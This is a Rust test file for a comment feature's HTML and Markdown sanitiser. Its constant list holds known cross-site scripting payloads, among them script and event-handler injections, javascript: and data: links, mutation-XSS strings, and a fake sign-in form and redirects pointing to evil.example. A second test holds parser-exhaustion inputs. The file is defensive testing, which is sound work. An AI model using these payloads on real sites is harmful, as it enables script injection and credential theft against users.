//! Comments that were written to run in somebody else's browser.

use super::{Table, comments};
use serde_json::json;

/// Known vectors, in HTML and in Markdown.
const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=\"javascript:alert(1)\">here</a>",
    "[here](javascript:alert(1))",
    "[here](JaVaScRiPt:alert(1))",
    "[here](java\tscript:alert(1))",
    "[here](<javascript:alert(1)>)",
    "[here](&#106;avascript&colon;alert(1))",
    "[here](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[here](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    "![x](https://tracker.example/pixel.gif)",
    "![x\"onerror=\"alert(1)](x)",
    "[x](https://a.example/\"onmouseover=\"alert(1))",
    "[x](https://a.example 'a\" onmouseover=\"alert(1)')",
    "<javascript:alert(1)>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style=\"position:fixed;inset:0\">over all</p>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "```\"><script>alert(1)</script>\n<script>alert(1)</script>\n```",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "`</code><script>alert(1)</script>`",
    "# <a id=\"csrf\" name=\"csrf\">x</a>",
];

/// Elements of the HTML, each as its whole tag.
fn tags(html: &str) -> Vec<&str> {
    html.split('<').skip(1).map(|rest| rest.split('>').next().expect("a tag")).collect()
}

#[test]
fn hostile_comments_are_inert_in_the_html_and_whole_in_the_text() {
    let table = Table::new();
    let mut ada = table.member("Ada", "commenter");
    for vector in VECTORS {
        ada.says(table.page, &json!({ "body": format!("Look: {vector}\n\n{vector}") }));
    }
    let listed = ada.read(&comments(table.page));
    let listed = listed["comments"].as_array().expect("comments");
    assert_eq!(listed.len(), VECTORS.len());
    let known = [
        "p",
        "a",
        "em",
        "strong",
        "code",
        "pre",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "h1",
        "br",
        "ul",
        "li",
        "ol",
        "hr",
        "blockquote",
        "del",
    ];
    for (comment, vector) in listed.iter().zip(VECTORS) {
        let html = comment["html"].as_str().expect("HTML");
        for tag in tags(html) {
            let name: String = tag.trim_start_matches('/').chars().take_while(char::is_ascii_alphanumeric).collect();
            assert!(known.contains(&name.as_str()), "{vector}: <{tag}> in {html}");
            let attributes = tag.split_whitespace().skip(1).filter_map(|part| part.split_once('='));
            for (attribute, value) in attributes {
                let known = ["href", "rel", "id", "aria-label", "title", "align", "class"];
                assert!(!attribute.starts_with("on"), "{vector}: <{tag}>");
                let is_title_text = tag.contains("title=\"");
                assert!(known.contains(&attribute) || is_title_text, "{vector}: {attribute} in <{tag}>");
                let is_address =
                    ["\"https://", "\"http://", "\"mailto:", "\"#"].iter().any(|begin| value.starts_with(begin));
                assert!(attribute != "href" || is_address, "{vector}: <{tag}>");
            }
            let ids = tag.split("id=\"").skip(1).all(|id| id.starts_with("section-"));
            assert!(ids, "{vector}: <{tag}> could pass for an element of the page");
        }
    }
    let text = listed[1]["body"].as_str().expect("a body");
    assert!(text.contains("<img src=x onerror=alert(1)>"), "the text is what was written: {text}");
    // What the maker's inbox shows is plain text, which pages escape.
    assert_eq!(table.maker.inbox().len(), VECTORS.len());
}

#[test]
fn markdown_that_is_costly_to_read_does_not_take_the_page_down() {
    let table = Table::new();
    let mut ada = table.member("Ada", "commenter");
    for hostile in [
        "[".repeat(10_000),
        "*a_".repeat(3_333),
        "> ".repeat(5_000),
        "<a ".repeat(3_333),
        "`".repeat(9_999),
        "![[](".repeat(2_000),
    ] {
        ada.says(table.page, &json!({ "body": hostile }));
    }
    assert_eq!(ada.read(&comments(table.page))["count"], 6);
}
